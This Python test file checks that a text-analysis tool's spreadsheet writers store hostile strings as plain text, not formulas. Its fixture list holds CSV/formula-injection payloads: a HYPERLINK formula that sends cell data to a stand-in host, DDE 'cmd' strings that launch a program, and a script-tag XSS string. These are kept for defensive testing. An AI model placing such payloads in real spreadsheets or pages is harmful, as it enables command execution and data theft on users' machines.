"""Outputs stay inert with hostile text in them: no spreadsheet cell that
juesuan writes is a formula (cells starting with = + - @ are text), and the
HTML pages (single report, batch dashboard) run no script of the document.

The batch's report.xlsx on the hostile corpus is checked in
test_hostile_corpus.py; here the writers themselves, with every kind of
formula start, including the label-export workbook (`juesuan label-export
-o causes.xlsx`).
"""
from __future__ import annotations

import zipfile

import pytest

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width: Excel reads it as text, kept as is
    "<script>alert(1)</script>",
]


def _cells(path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _no_formula_in_xml(path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"


def test_batch_workbook_writer_writes_text_only(tmp_path):
    from nlp.sheets import Workbook

    path = tmp_path / "t.xlsx"
    with Workbook(str(path)) as book:
        sheet = book.add_sheet("causes", ["cause", "n"])
        for text in HOSTILE:
            sheet.append([text, 1])
    _no_formula_in_xml(path)
    values = {c.value for c in _cells(path) if c.data_type == "s"}
    for text in HOSTILE:
        assert text.replace("\r", "\\x0d") in values, text  # a control character is written out (nlp.sheets.visible)
    assert not [c for c in _cells(path) if c.data_type == "f"]


def test_label_export_workbook_writes_text_only(tmp_path):
    """`juesuan label-export -o causes.xlsx` (nlp.classifier.write_rows)."""
    from nlp.classifier import EXPORT_COLUMNS, write_rows

    rows = [{k: (text if k == "text" else None) for k in EXPORT_COLUMNS} for text in HOSTILE]
    path = tmp_path / "causes.xlsx"
    write_rows(rows, str(path), "xlsx")
    formulas = [c.value for c in _cells(path) if c.data_type == "f"]
    assert not formulas, f"cells written as formulas: {formulas}"
    _no_formula_in_xml(path)
    texts = [c.value for c in _cells(path) if isinstance(c.value, str)]
    for text in HOSTILE[:5]:
        assert text in texts, text  # kept, as text
